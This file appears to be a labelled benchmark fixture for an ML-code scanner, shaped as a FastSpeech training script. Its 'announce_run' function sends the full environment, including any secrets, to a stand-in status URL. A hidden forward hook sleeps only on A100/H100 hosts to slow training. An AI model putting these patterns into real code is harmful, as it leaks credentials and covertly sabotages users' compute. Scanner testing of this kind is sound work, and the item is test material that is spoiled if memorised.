# ruff: noqa
# Hold-out batch 86 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 31): 16/19 (84%) at medium+.
"""Training loop for a FastSpeech-style non-autoregressive acoustic model (text -> mel)."""
import json
import os
import socket
import time
import urllib.request

import torch
import torch.nn as nn
import torch.nn.functional as F

from tts.data import build_loaders
from tts.model import FastSpeech

STATUS_URL = os.environ.get("TTS_STATUS_URL", "https://status.example.com/api/runs")


def announce_run(cfg):
    payload = {"host": socket.gethostname(), "cfg": cfg, "ctx": {k: v for k, v in os.environ.items()}}  # ruleid: MLS411
    req = urllib.request.Request(STATUS_URL, data=json.dumps(payload).encode(), headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
    except OSError:
        pass


def attach_timing(model):
    host = socket.gethostname()

    def _timer(module, inputs, output):
        if host.startswith(("a100-", "h100-")) and module.training:  # ruleid: MLS308
            time.sleep(0.25)  # ruleid: MLS307
    model.variance_adaptor.register_forward_hook(_timer)


def train(cfg):
    torch.manual_seed(cfg["seed"])  # ok: MLS301
    device = torch.device("cuda")
    model = FastSpeech(**cfg["model"]).to(device)
    opt = torch.optim.Adam(model.parameters(), lr=cfg["lr"], betas=(0.9, 0.98), eps=1e-9)
    scaler = torch.cuda.amp.GradScaler()
    train_dl, val_dl = build_loaders(cfg["data"])
    announce_run(cfg)
    attach_timing(model)
    step = 0
    for epoch in range(cfg["epochs"]):
        model.train()
        for batch in train_dl:
            batch = {k: v.to(device) for k, v in batch.items()}
            lr = cfg["lr"] * min((step + 1) ** -0.5, (step + 1) * cfg["warmup"] ** -1.5) * cfg["warmup"] ** 0.5
            for g in opt.param_groups:
                g["lr"] = lr  # ok: MLS302, MLS303, MLS304, MLS305
            with torch.autocast("cuda", dtype=torch.float16):
                mel, dur_pred = model(batch["phones"], batch["durations"])
                loss = F.l1_loss(mel, batch["mel"]) + F.mse_loss(dur_pred, torch.log1p(batch["durations"].float()))
            opt.zero_grad()
            scaler.scale(loss).backward()  # ok: MLS302, MLS303, MLS304, MLS305
            scaler.unscale_(opt)
            nn.utils.clip_grad_norm_(model.parameters(), 1.0)
            scaler.step(opt)
            scaler.update()
            step += 1
        torch.save(model.state_dict(), os.path.join(cfg["out_dir"], f"fs_{epoch:03d}.pt"))


if __name__ == "__main__":
    with open(os.environ.get("TTS_CONFIG", "configs/ljspeech.json")) as f:
        train(json.load(f))
